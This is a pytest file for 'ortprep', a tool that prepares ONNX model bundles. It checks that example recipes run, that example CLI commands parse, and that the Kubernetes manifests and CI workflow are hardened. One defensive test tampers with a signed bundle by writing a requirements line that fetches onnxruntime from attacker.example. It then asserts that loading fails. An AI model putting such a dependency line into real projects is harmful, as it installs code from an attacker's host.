"""Examples: recipes run, deployments are read."""

import os
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import typer.main
import yaml

import ortprep.cli.app  # noqa: F401  puts the commands on the app
from docs.recipe_pages import EXAMPLES, build_page, page_path, recipe_names, run_recipe, split_steps
from ortprep.bundle.digest import digest_bytes
from ortprep.cli.command import app
from tests.registry.builders import write_keys
from tests.runtime.builders import write_bundle
from tests.stages.fetch.fakes import serve_hub

# -- examples that are no recipes: what needs a cluster or Docker is read

ROOT = Path(__file__).parent.parent


def run(*command, folder):
    """Runs a command in a folder as a user does; returns what it wrote to stdout."""
    environment = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        "PYTHONPATH": str(ROOT),
        "ORTPREP_CACHE_DIR": str(folder / "cache"),
        # Locks of its own: what others measure meanwhile is not waited for.
        "XDG_RUNTIME_DIR": str(folder),
    }
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.slow
def test_a_model_of_the_hub_is_prepared_and_loaded(tmp_path, monkeypatch):
    shutil.copytree(EXAMPLES / "hub", tmp_path / "hub")
    shutil.copy(EXAMPLES / "hub_model.py", tmp_path)
    run("pip", "download", "-q", "--no-deps", "--dest", "wheels", "silero-vad==6.2.3", folder=tmp_path)
    (wheel,) = (tmp_path / "wheels").glob("*.whl")
    with zipfile.ZipFile(wheel) as file:
        model = file.read("silero_vad/data/silero_vad.onnx")
    with serve_hub() as hub:
        hub.add("onnx-community/silero-vad", {"onnx/model.onnx": model})
        monkeypatch.setenv("HF_ENDPOINT", hub.url)
        written = run(sys.executable, "hub_model.py", folder=tmp_path).splitlines()
    place, digest = written[0].split(", ")
    assert re.fullmatch(r"hf://onnx-community/silero-vad@[0-9a-f]{40}/onnx/model\.onnx", place)
    assert digest == digest_bytes(model)
    assert written[-1] == "sr: tensor(int64) []"


def commands_in(path):
    """Yields every `ortprep` command of a file: in lines of a shell, and in lists of arguments."""
    text = path.read_text()
    for found in re.finditer(r"(?:^\s*|run: |RUN |&& |; )(ortprep [^|;&>\n]*)", text, re.MULTILINE):
        yield shlex.split(found[1])
    for document in yaml.safe_load_all(text) if path.suffix == ".yaml" else ():
        yield from (one for one in _lists(document) if one[:1] == ["ortprep"])


def _lists(data):
    if isinstance(data, list):
        yield data
    for item in data.values() if isinstance(data, dict) else data if isinstance(data, list) else ():
        yield from _lists(item)


DEPLOYED = EXAMPLES / "ci_mlflow_kubernetes"
MANIFESTS = sorted(
    path for path in EXAMPLES.rglob("*.yaml") if re.search(r"^apiVersion:", path.read_text(), re.MULTILINE)
)
MANIFEST, WORKFLOW = DEPLOYED / "kubernetes.yaml", DEPLOYED / "workflow.yaml"


def find_pods(data):
    """Yields the specs of all pods in a manifest."""
    if isinstance(data, dict) and "containers" in data:
        yield data
    for item in data.values() if isinstance(data, dict) else data if isinstance(data, list) else ():
        yield from find_pods(item)


@pytest.mark.attack
@pytest.mark.parametrize("path", MANIFESTS, ids=lambda path: path.name)
def test_what_runs_in_a_pod_can_change_neither_its_image_nor_its_model(path):
    pods = list(find_pods(list(yaml.safe_load_all(path.read_text()))))
    assert pods
    for pod in pods:
        assert pod["automountServiceAccountToken"] is False
        assert pod["securityContext"]["runAsNonRoot"] is True
        for container in pod["containers"] + pod.get("initContainers", []):
            assert container["securityContext"]["allowPrivilegeEscalation"] is False
            assert container["securityContext"]["capabilities"] == {"drop": ["ALL"]}
        assert all(one["securityContext"]["readOnlyRootFilesystem"] is True for one in pod["containers"])
    (pod,) = find_pods(yaml.safe_load(MANIFEST.read_text()))
    for container in pod["containers"]:
        mounts = {mount["name"]: mount.get("readOnly", False) for mount in container["volumeMounts"]}
        assert mounts == {"models": True, "key": True, "tmp": False}
        assert {"name": "BUNDLE_KEY", "value": "/keys/key.pub"} in container["env"]


@pytest.mark.attack
def test_the_container_job_loads_only_what_its_key_signed(tmp_path, monkeypatch):
    private, public = write_keys(tmp_path / "keys")
    _, other = write_keys(tmp_path / "other")
    write_bundle(tmp_path / "linear")
    registry, bundle = (tmp_path / "registry").as_uri(), tmp_path / "models" / "linear"
    run("ortprep", "publish", "linear", "--registry", registry, "--sign", str(private), folder=tmp_path)
    options = ("--out", str(bundle), "--verify", str(public))
    run("ortprep", "pull", "linear", "--registry", registry, *options, folder=tmp_path)
    monkeypatch.setenv("BUNDLE", str(bundle))

    def load(key):
        monkeypatch.setenv("BUNDLE_KEY", str(key))
        return run(sys.executable, str(DEPLOYED / "job.py"), folder=tmp_path)

    assert "tensor(float)" in load(public)
    with pytest.raises(AssertionError, match="SignatureError"):
        load(other)
    (bundle / "requirements.txt").write_text("onnxruntime @ https://attacker.example/wheel.whl\n")
    with pytest.raises(AssertionError, match=r"IntegrityError|SignatureError"):
        load(public)


def test_every_script_of_the_workflow_is_one_that_bash_takes():
    jobs = yaml.safe_load(WORKFLOW.read_text())["jobs"].values()
    scripts = [step["run"] for job in jobs for step in job["steps"] if "run" in step]
    assert scripts
    for script in scripts:
        subprocess.run(["bash", "-n"], input=script, text=True, check=True)


@pytest.mark.attack
def test_the_workflow_runs_neither_code_of_a_fork_nor_an_action_that_can_change():
    workflow = yaml.safe_load(WORKFLOW.read_text())
    triggers = workflow[True]  # what YAML 1.1 makes of `on`
    assert set(triggers) <= {"push", "schedule", "workflow_dispatch"}
    assert workflow["permissions"] == {"contents": "read"}
    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
    actions = [step["uses"] for step in steps if "uses" in step]
    pinned = re.findall(r"uses: (\S+@[0-9a-f]{40}) # v\d+\.\d+\.\d+$", WORKFLOW.read_text(), re.MULTILINE)
    assert actions == pinned
    assert not any("${{" in step.get("run", "") for step in steps), "expressions in scripts are code"
    assert all(job.get("permissions") is None for job in workflow["jobs"].values())


SEVERAL, SERVED = EXAMPLES / "several_models" / "Dockerfile", EXAMPLES / "eight_gpus" / "page.md"
DEPLOYMENTS = (MANIFEST, WORKFLOW, SEVERAL, SERVED)


@pytest.mark.parametrize("path", DEPLOYMENTS, ids=lambda path: path.name)
def test_every_command_of_a_deployment_is_one_that_the_command_line_takes(path):
    known = typer.main.get_command(app)
    commands = list(commands_in(path))
    assert commands
    for _, name, *arguments in commands:
        known.commands[name].make_context(name, list(arguments))  # raises for what it does not take


# -- the pages of recipes are made from scripts that run

RECIPES = recipe_names()


def stable_lines(name, transcript):
    """Returns what a script writes on every machine: without figures, and without steps marked with `#~`.

    Whether the variant of this processor or the portable one ships is decided by figures, so it is one.
    """
    script = (EXAMPLES / name / "run.sh").read_text()
    lines = [
        re.sub(r"(taking|,) variant (cpu|portable)$", r"\1 variant #", line)
        for step, shown in split_steps(script, transcript).items()
        if f"#: {step}" in script.splitlines()
        for is_command, line in shown
        if not is_command
    ]
    words = [" ".join("#" if re.search(r"\d", word) else word for word in line.split()) for line in lines]
    return [line for line in words if line.strip("─ ")]


@pytest.mark.parametrize("name", RECIPES)
def test_a_page_is_made_from_its_recipe(name):
    assert page_path(name).read_text() == build_page(name), f"run: python -m docs.recipe_pages {name}"
    blocks = re.findall(r"```(?:bash|sh|console)", (EXAMPLES / name / "page.md").read_text())
    assert blocks == [], "commands come from the script alone"


@pytest.mark.slow
@pytest.mark.parametrize("name", RECIPES)
def test_a_recipe_runs_from_a_clean_folder_and_writes_what_its_page_shows(name, tmp_path):
    _, recorded = (EXAMPLES / name / "transcript.txt").read_text().split("\n", 1)
    assert stable_lines(name, run_recipe(name, tmp_path, is_quick=True)) == stable_lines(name, recorded)
